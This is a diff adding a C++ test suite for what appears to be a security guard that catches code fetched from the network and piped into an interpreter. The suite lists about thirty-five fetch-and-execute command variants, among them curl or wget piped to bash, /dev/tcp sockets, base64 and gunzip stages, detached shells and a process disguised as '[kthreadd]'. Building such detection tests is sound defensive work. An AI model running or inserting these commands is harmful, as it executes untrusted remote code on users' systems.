@@ -1,0 +1,147 @@
+// Code from the network reaches an interpreter: the attacks, in each mode.
+#include <gmock/gmock.h>
+#include <gtest/gtest.h>
+
+#include "chain_site.h"
+
+namespace davylamp::test {
+namespace {
+
+using testing::IsEmpty;
+
+enum class Order {
+    any,          // whichever comes first
+    reader_first, // the interpreter waits: the connect is refused and nothing is served
+    reader_late,  // the script is on its way: the interpreter dies at exec
+    fallback,     // a second downloader follows: where the first's end took the reader along, it
+                  // is served and writes to nobody
+};
+
+struct Attack {
+    const char* name;
+    const char* command;
+    Order order = Order::any;
+    const char* code = "CHAIN-001";
+};
+
+void PrintTo(const Attack& attack, std::ostream* stream) { *stream << attack.name; }
+
+// Until the script has been served.
+#define ONCE_SERVED "until [ -e @D/served ]; do sleep 0.01; done"
+
+const Attack kAttacks[] = {
+    {"curl | bash", "curl -s @URL | bash"},
+    {"the downloader is slow", "(sleep 0.3; exec curl -s @URL) | bash", Order::reader_first},
+    {"the shell is slow", "curl -s @URL | (" ONCE_SERVED "; exec bash)", Order::reader_late},
+    {"curl | sh", "curl -s @URL | sh"},
+    {"curl | sh -", "curl -s @URL | sh -"},
+    {"curl | bash -s", "curl -s @URL | bash -s -- a b"},
+    {"curl | bash /dev/stdin", "curl -s @URL | bash /dev/stdin"},
+    // One try: wget takes a refusal for a passing trouble, and has twenty.
+    {"wget | bash", "wget -t1 -qO- @URL | bash"},
+    {"busybox", "busybox wget -t1 -qO- @URL | busybox sh"},
+    {"a renamed curl", "@D/fetcher -s @URL | bash"},
+    {"a static downloader", "@STATIC | bash"},
+    {"python downloads", "/usr/bin/python3 -c \"import urllib.request as u, sys; "
+                         "sys.stdout.write(u.urlopen('@URL').read().decode())\" | bash"},
+    {"perl downloads",
+     "perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => \"127.0.0.1:\" . "
+     "(split m{[:/]}, \"@URL\")[4]) or die; print $s \"GET /x.sh HTTP/1.0\\r\\n\\r\\n\"; "
+     "1 while (($l = <$s>) ne \"\\r\\n\"); print <$s>' | bash"},
+    {"python interprets", "curl -s @PYTHON_URL | /usr/bin/python3"},
+    {"python interprets -", "curl -s @PYTHON_URL | /usr/bin/python3 -"},
+    {"base64 and gunzip", "curl -s @B64_URL | base64 -d | gunzip | sh"},
+    {"five stages", "curl -s @B64_URL | base64 -d | gunzip | tee @D/copy | cat | sh"},
+    {"tee in the middle", "curl -s @URL | tee @D/copy | bash"},
+    {"bash <()", "bash <(curl -s @URL)"},
+    {"bash < <()", "bash < <(curl -s @URL)"},
+    {"curl or wget", "(curl -fsS @URL || wget -t1 -qO- @URL) | bash -sh", Order::fallback},
+    {"a function in the pipe", "fetch() { curl -s $1; }; fetch @URL | bash"},
+    {"disowned", "curl -s @URL | bash & disown"},
+    {"setsid", "setsid bash -c 'curl -s @URL | bash' &"},
+    {"nohup", "nohup bash -c 'curl -s @URL | bash' > /dev/null 2>&1 &"},
+    {"a fifo on stdin", "mkfifo @D/fifo; curl -s @URL > @D/fifo & bash < @D/fifo"},
+    {"curl -o >()", "curl -s -o >(bash) @URL"},
+    {"tee >()", "curl -s @URL | tee >(bash) > /dev/null"},
+    {"a dev tcp subshell", "(exec 3<>@TCP; @GET >&3; cat <&3) | bash"},
+    {"dev tcp and cat", "exec 3<>@TCP; @GET >&3; cat <&3 | bash"},
+    {"dev tcp by a loop",
+     "(exec 3<>@TCP; @GET >&3; while read -r line <&3; do echo \"$line\"; done) | bash"},
+    {"a socket as stdin", "exec 3<>@TCP; @GET >&3; bash <&3", Order::reader_late, "CHAIN-002"},
+    {"env", "curl -s @URL | env -i /bin/bash"},
+    {"timeout", "timeout 20 curl -s @URL | timeout 20 bash"},
+    {"exec -a", "curl -s @URL | (exec -a '[kthreadd]' bash)"},
+    {"a copied bash", "cp /bin/bash @D/bash; curl -s @URL | @D/bash"},
+};
+
+class Chain : public testing::TestWithParam<std::tuple<Attack, Mode>> {};
+
+TEST_P(Chain, Attack)
+{
+    const auto& [attack, mode] = GetParam();
+    ChainSite site;
+    GuardResult result = run_guard(mode, site.fill(attack.command));
+
+    EXPECT_EQ(result.exit_code, 86) << result.err;
+    Finding finding = result.first(attack.code);
+    if (mode == Mode::monitor) {
+        EXPECT_TRUE(exists(site.marker())) << "the attack itself does not work";
+        EXPECT_EQ(finding.action(), 3);
+        EXPECT_EQ(finding.disposition(), 15);
+        EXPECT_EQ(finding.json["unmapped"]["would_block"], true);
+        return;
+    }
+    EXPECT_FALSE(exists(site.marker())) << "the script ran\n" << result.out;
+    EXPECT_EQ(finding.action(), 2);
+    EXPECT_EQ(finding.disposition(), 2);
+    // Nothing is served where the connect was refused; else the interpreter, or the stage that
+    // feeds it, died before its first instruction.
+    if (attack.order == Order::reader_first) {
+        EXPECT_TRUE(finding.did("refuse")) << result.out;
+    }
+    if (attack.order == Order::reader_late || !finding.did("refuse")) {
+        EXPECT_TRUE(finding.did("kill_current")) << result.out;
+    } else if (attack.order != Order::fallback || mode == Mode::block) {
+        EXPECT_THAT(site.web.requests(), IsEmpty()) << result.out;
+    }
+    if (mode == Mode::kill) {
+        for (int pid : finding.pids())
+            EXPECT_FALSE(is_running(pid)) << pid << "\n" << result.out;
+    }
+}
+
+INSTANTIATE_TEST_SUITE_P(Live, Chain,
+                         testing::Combine(testing::ValuesIn(kAttacks),
+                                          testing::Values(Mode::monitor, Mode::block, Mode::kill)),
+                         [](const auto& test) {
+                             return test_name(std::get<0>(test.param).name,
+                                              std::get<1>(test.param));
+                         });
+
+// What tells kill from block: a downloader that would outlive the refusal, and the shell.
+TEST(ChainEnds, BlockLeavesTheDownloaderAlive)
+{
+    ChainSite site;
+    GuardResult result =
+        run_guard(Mode::block, site.fill("(sleep 0.3; exec @STATIC @D/alive) | bash"));
+    EXPECT_TRUE(result.first("CHAIN-001").did("refuse"));
+    EXPECT_TRUE(exists(site.folder / "alive")) << result.out;
+    EXPECT_FALSE(exists(site.marker()));
+}
+
+TEST(ChainEnds, KillEndsBothEnds)
+{
+    ChainSite site;
+    GuardResult result = run_guard(
+        Mode::kill, site.fill("(sleep 0.3; exec @STATIC @D/alive) | bash; echo ${PIPESTATUS[@]} > "
+                              "@D/status"));
+    Finding finding = result.first("CHAIN-001");
+    EXPECT_TRUE(finding.did("refuse"));
+    EXPECT_FALSE(exists(site.folder / "alive")) << result.out;
+    EXPECT_EQ(slurp(site.folder / "status"), "137 137\n");
+    EXPECT_EQ(finding.pids("interpreter").size(), 1u);
+    EXPECT_EQ(finding.pids("downloader").size(), 1u);
+}
+
+} // namespace
+} // namespace davylamp::test
